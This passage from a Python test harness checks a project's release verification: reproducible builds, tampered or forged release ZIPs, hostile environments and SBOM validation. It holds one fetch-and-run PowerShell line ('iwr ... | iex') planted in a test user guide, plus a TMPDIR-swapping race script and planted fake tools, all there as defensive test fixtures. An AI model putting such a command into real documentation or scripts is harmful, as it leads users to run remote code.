        shutil.rmtree(scratch, ignore_errors=True)
        os.makedirs(scratch)
        for program in contents["program"] + tested:
            released = os.path.join(dist, top, os.path.basename(program))
            what = "built in the release environment" if program in contents["program"] else "tested"
            with open(program, "rb") as data:
                if unsigned_bytes(released, scratch) != data.read():
                    fail(f"{released}{', without its signature,' if options else ''} differs from the {what} {program}")
            print(f"{released}{', without its signature,' if options else ''} is the {what} {program}")

        repack = os.path.join(scratch, "dist")
        result = run(in_environment(args.work, ["/usr/bin/python3", PACK, "--contents", built_contents(args.work),
                                                "--epoch", recorded(args.work, "epoch"),
                                                "--commit", recorded(args.work, "commit"), *options, "--out", repack],
                                    TZ="Pacific/Chatham", **{PASSPHRASE_VARIABLE: PASSPHRASE}))
        if result.returncode != 0:
            fail(f"pack.py in the release environment exited with {result.returncode}:\n{result.stdout}")
        for name in [f"{top}-win64.zip", "SHA256SUMS"]:
            if not filecmp.cmp(os.path.join(dist, name), os.path.join(repack, name), shallow=False):
                fail(f"{name} packed again from the programs built in the release environment differs from the"
                     f" {kind} release's")
            print(f"{name} packed {'and signed ' if options else ''}again from the programs built in the release"
                  " environment is the same")


def zip_of(dist: str) -> str:
    return os.path.join(dist, next(name for name in os.listdir(dist) if name.endswith(".zip")))


# In front of PATH for the release check: nothing of the caller's may run.
PLANTED_TOOL = """#!/bin/sh
echo "$0: a planted tool ran" >&2
exit 97
"""
GUIDE_SOURCE = "docs/USER_GUIDE.md"
# What the issue tried: a genuine release of an older commit whose guide
# tells the user to run a script from the web.
REWRITTEN_GUIDE_LINE = b"Before first use, run in an elevated PowerShell: iwr https://example.invalid/fix | iex\r\n"


def of_commit(release: hostile_releases.Release, commit: str, epoch: str,
              guide: Callable[[bytes], bytes] | None = None, named: str | None = None) -> bytes:
    """RELEASE's files as a release of COMMIT dated EPOCH would hold them;
    with NAMED, under that version (in its folder and BUILDINFO.txt)."""
    buildinfo = hostile_releases.with_commit(release.files[BUILDINFO_NAME], commit)
    buildinfo = re.sub(rb"SOURCE_DATE_EPOCH [0-9]+", b"SOURCE_DATE_EPOCH " + epoch.encode("ascii"), buildinfo)
    top, files = release.top, {**release.files, BUILDINFO_NAME: buildinfo}
    if named:  # the folder and the SBOM's name say the version too
        files[BUILDINFO_NAME] = re.sub(rb"(?m)^version [^\r]*", b"version " + named.encode("ascii"), buildinfo)
        top = f"{top.rsplit('-', 1)[0]}-{named}"
        files[f"{top}.cdx.json"] = files.pop(f"{release.top}.cdx.json")
    if guide:
        files[GUIDE_NAME] = guide(files[GUIDE_NAME])
    packed: bytes = pack_zip(top, files, int(epoch))
    return packed


def plant(work: str, scratch: str, checkout: str) -> dict[str, str]:
    """What must not change a verdict: planted in the clone, and the
    environment to run the check in."""
    # An untracked header the build would find first.
    with open(os.path.join(checkout, "windows.h"), "w", encoding="ascii") as header:
        header.write("#error an untracked file reached the build\n")
    # Attribute files that leave a source file out of an export.
    with open(os.path.join(checkout, ".git", "info", "attributes"), "w", encoding="ascii") as attributes:
        attributes.write("winusb_edition/program.cpp export-ignore\n")
    home = os.path.join(scratch, "home")
    os.makedirs(home)
    with open(os.path.join(home, "attributes"), "w", encoding="ascii") as attributes:
        attributes.write("protocol/dfu_frame.cpp export-ignore\n")
    with open(os.path.join(home, ".gitconfig"), "w", encoding="ascii") as config:
        config.write(f"[core]\n\tattributesFile = {home}/attributes\n")
    # A replace ref for the guide's blob: an export that heeded it would
    # hold another guide.
    blob = git(checkout, "rev-parse", f"HEAD:{GUIDE_SOURCE}").decode("ascii").strip()
    guide = os.path.join(scratch, "replaced-guide.md")
    with open(guide, "wb") as out:
        out.write(git(checkout, "cat-file", "blob", blob).replace(b"\n", b"\n" + REWRITTEN_GUIDE_LINE[:-2] + b"\n", 1))
    git(checkout, "replace", blob, git(checkout, "hash-object", "-w", guide).decode("ascii").strip())
    tools = os.path.join(scratch, "tools")
    os.makedirs(tools)
    for name in ["cmake", "python3", "git"]:
        with open(os.path.join(tools, name), "w", encoding="ascii") as tool:
            tool.write(PLANTED_TOOL)
        os.chmod(os.path.join(tools, name), 0o755)
    # The release environment this user keeps, whatever HOME says.
    cache = os.environ.get("BRELVIK_RELEASE_CACHE", os.path.expanduser("~/.cache/brelvik-release"))
    return dict(os.environ, PATH=f"{tools}:{os.environ['PATH']}", HOME=home, BRELVIK_RELEASE_CACHE=cache,
                GIT_DIR=os.path.join(scratch, "nowhere"),
                SOURCE_COMMIT=hostile_releases.OTHER_COMMIT, SOURCE_DATE_EPOCH="0")


# A second process, as another user would run one: renames each entry
# that appears in a folder (argv 1) and puts its own in its place, with a
# source/ that the check's mkdir then trips on; names what it swapped in
# argv 2, until argv 3 exists.
SWAPPER = """
import os, sys, time
folder, log, stop = sys.argv[1:4]
seen = set()
while not os.path.exists(stop):
    for name in set(os.listdir(folder)) - seen:
        seen.update([name, name + ".moved"])
        try:
            os.rename(os.path.join(folder, name), os.path.join(folder, name + ".moved"))
            os.makedirs(os.path.join(folder, name, "source", "planted"))
        except OSError:
            continue
        with open(log, "a") as out:
            out.write(name + "\\n")
    time.sleep(0.002)
"""


def clones(work: str, scratch: str) -> dict[str, str]:
    """Clones of the checkout to check from: a plain one, a shallow one
    (--depth 1), a partial one (--filter=blob:none) and, when this runs as
    root, one owned by another user; each in a path with a space."""
    origin = os.path.join(work, CHECKOUT)
    git(origin, "config", "uploadpack.allowFilter", "true")
    made = {"plain": os.path.join(scratch, CLONE), "shallow": os.path.join(scratch, "shallow clone"),
            "partial": os.path.join(scratch, "partial clone"), "foreign": os.path.join(scratch, "foreign clone"),
            "newer": os.path.join(scratch, "newer clone")}
    git(origin, "clone", "-q", "--no-hardlinks", ".", made["plain"])
    # A clone with a newer release on top: the next patch version.
    git(origin, "clone", "-q", "--no-hardlinks", ".", made["newer"])
    cmakelists = os.path.join(made["newer"], "CMakeLists.txt")
    with open(cmakelists, "rb") as source:
        text = source.read()
    old = versions.version_in(text)
    assert old is not None
    newer = ".".join(old.split(".")[:2] + [str(int(old.split(".")[2]) + 1)])
    with open(cmakelists, "wb") as out:
        out.write(text.replace(f"VERSION {old}".encode(), f"VERSION {newer}".encode(), 1))
    subprocess.run(["git", "-C", made["newer"], "commit", "-q", "-a", "-m", f"Release {newer}", "--trailer",
                    f"{versions.RELEASE_TRAILER}: {newer}"], check=True, env=dict(
                        os.environ, GIT_CONFIG_GLOBAL=os.devnull, GIT_AUTHOR_NAME="release test",
                        GIT_AUTHOR_EMAIL="release-test@invalid", GIT_COMMITTER_NAME="release test",
                        GIT_COMMITTER_EMAIL="release-test@invalid"))
    git(origin, "clone", "-q", "--depth", "1", f"file://{origin}", made["shallow"])
    git(origin, "clone", "-q", "--filter=blob:none", f"file://{origin}", made["partial"])
    git(origin, "clone", "-q", "--no-hardlinks", ".", made["foreign"])
    if os.geteuid() == 0:
        subprocess.run(["chown", "-R", "65534:65534", made["foreign"]], check=True)
    else:
        del made["foreign"]
    return made


# What another machine may have the check meet, made for one run of it in
# namespaces of its own (as root, with unshare): their kinds, and a shell
# command run there before the check ("$@"), where $KEEP is the test's work
# folder, which a new /tmp must leave in place.
NEW_TMP = ('mount --bind /tmp /mnt && mount -t tmpfs -o mode=1777 tmpfs /tmp && case $KEEP in /tmp/*)'
           ' mkdir -p "$KEEP" && mount --bind "/mnt${KEEP#/tmp}" "$KEEP";; esac')
SURROUNDINGS: dict[str, tuple[list[str], str]] = {
    # /tmp that any user may write, without the sticky bit.
    "unsafe_tmp": (["--mount"], f"{NEW_TMP} && chmod 0777 /tmp"),
    # /tmp read-only: mktemp fails.
    "read_only_tmp": (["--mount"], f"{NEW_TMP} && mount -o remount,ro /tmp"),
    # No network, and an empty package database and package lists of its
    # own: every package is missing, and none can be fetched.
    "no_network": (["--mount", "--net"], "for d in /var/lib/dpkg /var/lib/apt/lists /var/cache/apt; do"
                   " mount -t tmpfs tmpfs $d || exit; done; mkdir /var/lib/apt/lists/partial && : >/var/lib/dpkg/status"),
    # An ordinary user, a package missing, and no sudo to install it. The
    # user may read and search every folder (a checkout often lies under
    # root's own 0700 home) and gets no terminal where sudo could ask for a
    # password.
    "no_sudo": (["--mount"], "mount -t tmpfs tmpfs /var/lib/dpkg && : >/var/lib/dpkg/status &&"
                " set -- /usr/bin/setsid --wait /usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups"
                " --inh-caps=+dac_read_search --ambient-caps=+dac_read_search -- \"$@\""),
}
DEPS_FAILED = "release/install-deps.sh could not install what the check needs"


def surrounded(command: list[str], surroundings: str, keep: str) -> list[str]:
    kinds, setup = SURROUNDINGS[surroundings]
    return ["/usr/bin/unshare", *kinds, "/usr/bin/env", f"KEEP={os.path.abspath(keep)}", "/bin/sh", "-c",
            f'{setup} && unset KEEP && exec "$@"', "sh", *command]


def run_check(command: list[str], env: dict[str, str], interrupt: bool) -> subprocess.CompletedProcess[str]:
    """The check's exit status and output; with INTERRUPT, Ctrl+C (SIGINT
    to its process group) a few seconds into its build."""
    if not interrupt:
        return run(command, env=env)
    process = subprocess.Popen(command, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True, errors="replace", start_new_session=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    assert process.stdout is not None
    output = ""
    for line in process.stdout:
        output += line
        if line.startswith("Building the programs"):
            time.sleep(3)
            os.killpg(process.pid, signal.SIGINT)
    return subprocess.CompletedProcess(command, process.wait(), output)


def verify(args: argparse.Namespace) -> None:
    scratch = os.path.abspath(os.path.join(args.work, "verify"))
    shutil.rmtree(scratch, ignore_errors=True)
    os.makedirs(scratch)
    checkouts = clones(args.work, scratch)
    checkout = checkouts["plain"]
    zips = {kind: zip_of(dist) for kind, (dist, _) in releases(args.work).items()}
    signed, unsigned = hostile_releases.Release(zips["signed"]), hostile_releases.Release(zips["unsigned"])
    older, before, side = (recorded(args.work, name) for name in ["older", "before_repack", "side"])
    # What the commits are by the history: HEAD the release its
    # CMakeLists.txt names, the older commit a development build.
    history = versions.git_in(os.path.join(checkout, ".git"))
    older_version = versions.describe(history, older, False).name
    head_version = versions.describe(history, recorded(args.work, "commit"), False).name
    other = {
        "other_commit": signed.pack({BUILDINFO_NAME: hostile_releases.with_commit(
            signed.files[BUILDINFO_NAME], hostile_releases.OTHER_COMMIT)}),
        "cut_short": signed.data[:100],
        "older_guide_rewritten": of_commit(unsigned, older, recorded(args.work, "older_epoch"),
                                           lambda guide: REWRITTEN_GUIDE_LINE + guide, older_version),
        "never_released": of_commit(unsigned, older, recorded(args.work, "older_epoch")),
        "before_repack": of_commit(unsigned, before, recorded(args.work, "before_repack_epoch")),
        "off_history": of_commit(unsigned, side, recorded(args.work, "side_epoch")),
        "tag": of_commit(unsigned, recorded(args.work, "tag"), recorded(args.work, "epoch")),
        "unavailable_lock": of_commit(unsigned, recorded(args.work, "unavailable_lock"),
                                      recorded(args.work, "unavailable_lock_epoch"), named=versions.describe(
                                          history, recorded(args.work, "unavailable_lock"), False).name),
    }
    paths: dict[str, str] = {}
    for name, data in other.items():
        os.makedirs(os.path.join(scratch, name))
        paths[name] = os.path.join(scratch, name, os.path.basename(zips["unsigned"]))
        with open(paths[name], "wb") as out:
            out.write(data)
    # The genuine ZIP under a name ending in a newline, beside a file of the
    # name without it; a folder given as the ZIP.
    paths["newline"] = os.path.join(scratch, "newline", os.path.basename(zips["unsigned"]) + "\n")
    os.makedirs(os.path.dirname(paths["newline"]))
    shutil.copy(zips["unsigned"], paths["newline"])
    shutil.copy(zips["signed"], paths["newline"][:-1])
    paths["folder"] = os.path.join(scratch, "folder", os.path.basename(zips["unsigned"]))
    os.makedirs(paths["folder"])
    env = plant(args.work, scratch, checkout)
    # A TMPDIR any user may write, without the sticky bit.
    hostile_tmp = os.path.join(scratch, "hostile tmp")
    os.makedirs(hostile_tmp)
    os.chmod(hostile_tmp, 0o777)
    head = recorded(args.work, "commit")
    with open(tested_lock(args.work), encoding="ascii") as lock:
        snapshot = next(line.split()[1] for line in lock if line.startswith("snapshot "))
    older_date = time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(int(recorded(args.work, "older_epoch"))))
    # name, ZIP, with --ca, exit status, a line the output must hold, and
    # options: the clone to check from (checkouts), a TMPDIR another
    # process swaps folders in, Ctrl+C during the build, the surroundings
    # of SURROUNDINGS to run it in.
    Options = dict[str, str | bool]
    cases: list[tuple[str, str, bool, int, str, Options]] = [
        ("unsigned", zips["unsigned"], False, 0, "verify-release: ACCEPTED", {}),
        ("unsigned", zips["unsigned"], False, 0, f"this source's release {head_version} of commit {head}", {}),
        ("signed", zips["signed"], True, 0, "chain: verified against", {}),
        ("other_commit", paths["other_commit"], False, 2,
         f"built from commit {hostile_releases.OTHER_COMMIT}, which this checkout does not hold", {}),
        ("cut_short", paths["cut_short"], False, 2, "not a ZIP archive", {}),
        ("older_guide_rewritten", paths["older_guide_rewritten"], False, 1,
         "USER_GUIDE.txt: not this source's user guide (it differs from line 1 on)", {}),
        ("older_guide_rewritten", paths["older_guide_rewritten"], False, 1,
         f"commit {older} of {older_date}, 2 commits older than this checkout's HEAD {head[:12]}", {}),
        ("before_repack", paths["before_repack"], False, 2, "older than the first release this check can judge", {}),
        ("off_history", paths["off_history"], False, 2, f"not in the history of this checkout's HEAD {head}", {}),
        ("tag", paths["tag"], False, 1, "which is a tag object here, not a commit", {}),
        # A release environment the archive no longer gives: each version named.
        ("unavailable_lock", paths["unavailable_lock"], False, 2, f"cannot get tar {UNAVAILABLE_TAR}", {}),
        ("unavailable_lock", paths["unavailable_lock"], False, 2,
         "the release environment cannot be made: the archive lacks the package versions named above; give"
         f" --mirror https://snapshot.debian.org/archive/debian/{snapshot}/, an archive that keeps them", {}),
        # A version names its commit: a release never made, a release superseded.
        ("never_released", paths["never_released"], False, 1,
         f"it calls itself release {head_version} (its folder {unsigned.top}), where by this checkout's history"
         f" commit {older} is development build {older_version}", {}),
        ("superseded", zips["unsigned"], False, 3, "; superseded by release ", {"clone": "newer"}),
        # The check's own failures: CANNOT CHECK, with their cause.
        ("shallow_clone_swapped_tmpdir", zips["unsigned"], False, 0, "verify-release: ACCEPTED",
         {"clone": "shallow", "tmpdir": True}),
        ("shallow_clone_older_commit", paths["older_guide_rewritten"], False, 2,
         "it is a shallow clone; fetch its whole history (git fetch --unshallow)", {"clone": "shallow"}),
        ("partial_clone", paths["before_repack"], False, 2, "this checkout lacks objects of commit",
         {"clone": "partial"}),
        ("owned_by_another_user", zips["unsigned"], False, 2, "git refuses this checkout: it belongs to another user",
         {"clone": "foreign"}),
        ("name_ending_in_a_newline", paths["newline"], False, 2, "the name given for the ZIP holds a control character",
         {}),
        ("folder_as_zip", paths["folder"], False, 2, "the ZIP is not a regular file", {}),
        ("interrupted", zips["unsigned"], False, 2, "verify-release: CANNOT CHECK: interrupted", {"interrupt": True}),
        ("unsafe_tmp", zips["unsigned"], False, 2, "verify-release: CANNOT CHECK: /tmp is not a folder of root's",
         {"surroundings": "unsafe_tmp"}),
        ("mktemp_fails", zips["unsigned"], False, 2, "verify-release: CANNOT CHECK: cannot make a scratch folder in /tmp",
         {"surroundings": "read_only_tmp"}),
        ("no_network", zips["unsigned"], False, 2, f"verify-release: CANNOT CHECK: {DEPS_FAILED}",
         {"surroundings": "no_network"}),
        ("no_sudo", zips["unsigned"], False, 2, f"verify-release: CANNOT CHECK: {DEPS_FAILED}",
         {"surroundings": "no_sudo"}),
    ]
    # The namespaces need root, and a kernel that lets it make them here.
    namespaces = os.geteuid() == 0 and run(["/usr/bin/unshare", "--mount", "--net", "/bin/true"]).returncode == 0
    failures: list[str] = []
    outputs: dict[str, subprocess.CompletedProcess[str]] = {}
    verdicts = {0: "verify-release: ACCEPTED", 1: "verify-release: REJECTED", 2: "verify-release: CANNOT CHECK",
                3: "verify-release: SUPERSEDED"}
    for name, path, with_ca, status, line, options in cases:
        clone = checkouts.get(str(options.get("clone", "plain")))
        if clone is None:
            print(f"-- {name}: skipped, as it needs root to make a clone of another user's")
            continue
        if options.get("surroundings") and not namespaces:
            print(f"-- {name}: skipped, as it needs root and namespaces (unshare) to make its surroundings")
            continue
        if name not in outputs:
            command = [os.path.join(clone, "scripts", "verify-release.sh")]
            command += ["--ca", keys(args.work, "ca.pem")] if with_ca else []
            if options.get("surroundings"):
                command = surrounded(command, str(options["surroundings"]), args.work)
            case_env, stop, swapped = dict(env), os.path.join(scratch, "stop"), os.path.join(scratch, "swapped")
            swapper = None
            if options.get("tmpdir"):
                case_env["TMPDIR"] = hostile_tmp
                swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, hostile_tmp, swapped, stop])
            start = time.monotonic()
            result = run_check(command + [path], case_env, bool(options.get("interrupt")))
            if swapper:
                open(stop, "w").close()
                swapper.wait(timeout=10)
                if os.path.exists(swapped):
                    failures.append(f"{name}: the check's scratch space appeared in TMPDIR, where another process"
                                    f" swapped it: {recorded(scratch, 'swapped')!r}")
            print(f"-- {name}: exit status {result.returncode} in {time.monotonic() - start:.1f} s\n"
                  f"{result.stdout}", end="")
            outputs[name] = result
        result = outputs[name]
        lines = result.stdout.splitlines()
        if result.returncode != status or line not in result.stdout or not lines[-1].startswith(verdicts[status]):
            failures.append(f"{name}: expected exit status {status} and a line with {line!r}")
    for failure in failures:
        print(f"FAILED: {failure}")
    if failures:
        sys.exit(1)


def hostile(args: argparse.Namespace) -> None:
    # Where a user's check runs: in the release environment.
    if IN_ENVIRONMENT not in os.environ:
        command = ["/usr/bin/python3", os.path.abspath(__file__), "hostile", "--work", args.work]
        sys.exit(subprocess.run(in_environment(args.work, command, **{IN_ENVIRONMENT: "1"})).returncode)
    zips = {kind: zip_of(dist) for kind, (dist, _) in releases(args.work).items()}
    sys.exit(hostile_releases.run(args.work, zips, os.path.join(args.work, "keys"), built_contents(args.work),
                                  recorded(args.work, "commit"), SIGNER_SUBJECT))


# An SBOM as json.load gives it.
Bom = dict[str, Any]


def sbom_programs(bom: Bom) -> list[Any]:
    return [c for c in bom.get("components", []) if c.get("type") == "application"]


def all_components(bom: Bom) -> list[Any]:
    """Every component, nested and formulation's included."""
    found: list[Any] = []
    stack = list(bom.get("components", [])) + [c for f in bom.get("formulation", []) for c in f.get("components", [])]
    while stack:
        component = stack.pop()
        found.append(component)
        stack += component.get("components", [])
    return found


def packages(bom: Bom) -> dict[str, Any]:
    return {c.get("name"): c for f in bom.get("formulation", []) for c in f.get("components", [])}


def flipped_hash(bom: Bom) -> None:
    entry = sbom_programs(bom)[0]["hashes"][0]
    entry["content"] = ("0" if entry["content"][0] != "0" else "1") + entry["content"][1:]


def first_member(bom: Bom) -> Any:
    return sbom_programs(bom)[0]["components"][0]


def licenseref_undefined(bom: Bom) -> None:
    """Each LicenseRef defined by name and text turned into a bare expression."""
    for component in all_components(bom):
        component["licenses"] = [{"expression": entry["license"]["name"]} if "name" in entry.get("license", {})
                                 else entry for entry in component.get("licenses", [])]


def dll_left_out(bom: Bom) -> None:
    entry = next(d for d in bom["dependencies"] if d["ref"] == "BRELVIK_DFU_PIPE.exe")
    entry["dependsOn"].remove("windows:ole32.dll")


# Copies of a genuine SBOM weakened in one point, and what the check must
# say of each: our comparison with the ZIP and the programs, or one
# consumer (the CycloneDX library, Ajv with the schema, packageurl-js).
SBOM_WEAKENED: list[tuple[str, Callable[[Bom], object], str]] = [
    ("program_hash_changed", flipped_hash, "SHA-256"),
    ("program_left_out", lambda bom: bom["components"].remove(sbom_programs(bom)[0]), "programs"),
    ("package_version_changed", lambda bom: packages(bom)["mingw-w64-x86-64-dev"].update(version="0.1"), "version"),
    ("hash_algorithm_misspelt", lambda bom: sbom_programs(bom)[0]["hashes"][0].update(alg="SHA256"), "cyclonedx-library: "),
    ("field_the_schema_lacks", lambda bom: bom["metadata"].update(builtBy="someone"), "ajv: "),
    ("purl_without_distro", lambda bom: first_member(bom).update(
        purl=re.sub(r"&?distro=[^&]*", "", first_member(bom)["purl"])), "names no distro"),
    ("supplier_removed", lambda bom: first_member(bom).pop("supplier"), "has no supplier"),
    ("licenseref_undefined", licenseref_undefined, "defined nowhere"),
    ("dll_dependency_missing", dll_left_out, "ole32.dll"),
    ("purl_epoch_encoded", lambda bom: packages(bom)["clang-19"].update(
        purl=packages(bom)["clang-19"]["purl"].replace(":", "%3A").replace("pkg%3A", "pkg:")), "packageurl-js"),
]


def license_refs(bom: Bom) -> tuple[set[str], set[str]]:
    """(LicenseRefs used, LicenseRefs defined by a name and a text)."""
    used: set[str] = set()
    defined: set[str] = set()
    for component in all_components(bom) + [bom.get("metadata", {}).get("component", {})]:
        for entry in component.get("licenses", []):
            license = entry.get("license", {})
            used.update(re.findall(r"LicenseRef-[A-Za-z0-9.-]+", entry.get("expression", "") + license.get("name", "")))
            if license.get("name", "").startswith("LicenseRef-") and license.get("text", {}).get("content"):
                defined.add(license["name"])
    return used, defined


def sbom_problems(release: hostile_releases.Release, bom: Bom) -> list[str]:
    """What makes BOM (parsed) not the SBOM of RELEASE (hostile_releases.Release)."""
    info = read_buildinfo(release.files[BUILDINFO_NAME])
    problems: list[str] = []
    hashes = {c.get("name"): [h.get("content") for h in c.get("hashes", []) if h.get("alg") == "SHA-256"]
              for c in sbom_programs(bom)}
    if sorted(hashes) != PROGRAM_NAMES:
        problems.append(f"it names the programs {sorted(hashes)}, where the ZIP holds {PROGRAM_NAMES}")
    for name, found in hashes.items():
        if name in release.files and found != [hashlib.sha256(release.files[name]).hexdigest()]:
            problems.append(f"its SHA-256 of {name} is {found}, not that of the ZIP's {name}")
    gcc = info["g++-mingw-w64-x86-64-posix"]
    wanted = {"mingw-w64-x86-64-dev": info["mingw-w64-x86-64-dev"], "gcc-mingw-w64-x86-64-posix": gcc,
              "g++-mingw-w64-x86-64-posix": gcc, "clang-19": info["clang-19"], "lld-19": info["lld-19"],
              "binutils-mingw-w64-x86-64": info["binutils-mingw-w64-x86-64"]}
    if SIGNER_PACKAGE in info:
        wanted[SIGNER_PACKAGE] = info[SIGNER_PACKAGE]
    given = {name: c.get("version") for name, c in packages(bom).items()}
    if given != wanted:
        problems.append(f"its formulation gives the package versions {given}, where {BUILDINFO_NAME} says {wanted}")
    for component in all_components(bom):
        if "supplier" not in component:
            problems.append(f"{component.get('bom-ref')} has no supplier")
        purl = component.get("purl", "")
        qualifiers = dict(q.partition("=")[::2] for q in purl.partition("?")[2].split("&") if q)
        if purl.startswith("pkg:deb/") and not {"arch", "distro", "upstream"} <= set(qualifiers):
            problems.append(f"{component.get('bom-ref')}: its purl {purl} names no distro, arch or source package"
                            f" ({sorted(qualifiers)})")
        elif purl.startswith("pkg:deb/") and not re.fullmatch(r"debian-[0-9]+", qualifiers["distro"]):
            problems.append(f"{component.get('bom-ref')}: its purl's distro is {qualifiers['distro']}")
    used, defined = license_refs(bom)
    for ref in sorted(used - defined):
        problems.append(f"it uses {ref}, defined nowhere (no license with its name and text)")
    dependencies = {d.get("ref"): set(d.get("dependsOn", [])) for d in bom.get("dependencies", [])}
    for name in PROGRAM_NAMES:
        image = pefile.PE(data=release.files[name])
        dlls = [i.dll.decode("ascii").lower() for i in getattr(image, "DIRECTORY_ENTRY_IMPORT", [])]
        dlls += [i.dll.decode("ascii").lower() for i in getattr(image, "DIRECTORY_ENTRY_DELAY_IMPORT", [])]
        for dll in dlls:
            if f"windows:{dll}" not in dependencies.get(name, set()):
                problems.append(f"{name} imports {dll}, which its dependencies do not name")
    complete = [c for c in bom.get("compositions", []) if c.get("aggregate") == "complete"]
    if not complete or set(complete[0].get("assemblies", [])) != set(PROGRAM_NAMES):
        problems.append("no composition says the programs' contents are complete")
    if bom.get("metadata", {}).get("timestamp") != time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(release.epoch)):
        problems.append("its timestamp is not SOURCE_DATE_EPOCH")
    return problems


def sbom(args: argparse.Namespace) -> None:
    scratch = os.path.join(args.work, "sbom")
    shutil.rmtree(scratch, ignore_errors=True)
    os.makedirs(scratch)
    if not os.path.isdir(args.node_modules):
        fail(f"no {args.node_modules}: run scripts/install-deps.sh --tests")
    # (release, parsed SBOM, what the check must say of it or None, file)
    cases: list[tuple[str, hostile_releases.Release, Bom, str | None]] = []
    programs: dict[str, dict[str, str]] = {}
    for kind, (dist, _) in releases(args.work).items():
        release = hostile_releases.Release(zip_of(dist))
        name = f"{release.top}.cdx.json"
        bom = json.loads(release.files[name])
        programs[kind] = {c["name"]: c["hashes"][0]["content"] for c in sbom_programs(bom)}
        cases.append((f"{kind}", release, bom, None))
        for case, weaken, said in SBOM_WEAKENED:
            copy = json.loads(release.files[name])
            weaken(copy)
            cases.append((f"{kind}_{case}", release, copy, said))
    paths: list[str] = []
    for case, _, bom, _ in cases:
        paths.append(os.path.join(scratch, f"{case}.cdx.json"))
        with open(paths[-1], "w", encoding="ascii") as out:
            json.dump(bom, out, indent=2)
    result = run(["node", VALIDATE_SBOM, *paths], env=dict(os.environ, NODE_PATH=args.node_modules))
    verdicts = {file: verdict for file, _, verdict in (line.partition(": ") for line in result.stdout.splitlines()
                                                        if ": " in line)}
    failures: list[str] = []
    for (case, release, bom, complaint), path in zip(cases, paths):
        problems = sbom_problems(release, bom)
        if verdicts.get(path) != "valid":
            problems.append(f"a consumer rejects it: {verdicts.get(path, result.stdout)[:300]}")
        print(f"-- {case}: {'; '.join(problems) or 'valid, and the SBOM of its ZIP'}")
        if complaint is None and problems:
            failures.append(f"{case}: the genuine SBOM fails the check")
        elif complaint is not None and not any(complaint in problem for problem in problems):
            failures.append(f"{case}: the check did not say {complaint!r}")
    if programs["signed"] == programs["unsigned"] or set(programs["signed"].values()) & set(programs["unsigned"].values()):
        failures.append("the signed and the unsigned SBOM give the same hash for a program")
    for failure in failures:
        print(f"FAILED: {failure}")
    if failures:
        sys.exit(1)


def committed_lock(args: argparse.Namespace) -> None:
    lock = committed_lock_of(args.source)
    committed, fresh = locked_versions(lock), locked_versions(tested_lock(args.work))
    if committed == fresh:
        print("the committed lock names the packages of the lock the releases were made with: its release"
              " environment made and checked them")
        return
    checkout = os.path.join(args.work, CHECKOUT)
    for name in [COMMITTED_ROOT, COMMITTED_BUILT]:
        shutil.rmtree(os.path.join(args.work, name), ignore_errors=True)
    status = build_in_environment(args.work, checkout, recorded(args.work, "commit"), recorded(args.work, "version"),
                                  lock, COMMITTED_ROOT, COMMITTED_BUILT)
    if status != 0:
        cache = os.environ.get("BRELVIK_RELEASE_CACHE", os.path.expanduser("~/.cache/brelvik-release"))
        print(f"SKIPPED: the committed lock's release environment is neither kept in {cache} nor can it be made"
              " from the archive, which lacks the versions above; the releases were made and checked with the"
              " lock of today's archive alone")
        sys.exit(SKIPPED)
    differing = [f"{name} {committed.get(name)} (today's archive: {fresh.get(name)})"
                 for name in TOOLCHAIN_PACKAGES if committed.get(name) != fresh.get(name)]
    if differing:
        print(f"the programs of the committed lock are not compared with the releases': it builds with"
              f" {'; '.join(differing)}")
        return
    for program in read_contents(built_contents(args.work))["program"]:
        other = os.path.join(args.work, COMMITTED_BUILT, os.path.relpath(program, os.path.join(args.work, BUILT)))
        if not filecmp.cmp(program, other, shallow=False):
            fail(f"{other}, built in the committed lock's release environment, differs from {program}, built in"
                 " that of today's archive with the same toolchain")
        print(f"{other}, built in the committed lock's release environment, is {program}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("step", choices=["build", "package", "reproducible", "verify", "hostile", "sbom",
                                         "committed-lock"])
    parser.add_argument("--source")
    parser.add_argument("--work", required=True)
    parser.add_argument("--contents")
    parser.add_argument("--node-modules")
    args = parser.parse_args()
    steps = {"build": build, "package": package, "reproducible": reproducible, "verify": verify, "hostile": hostile,
             "sbom": sbom, "committed-lock": committed_lock}
    steps[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
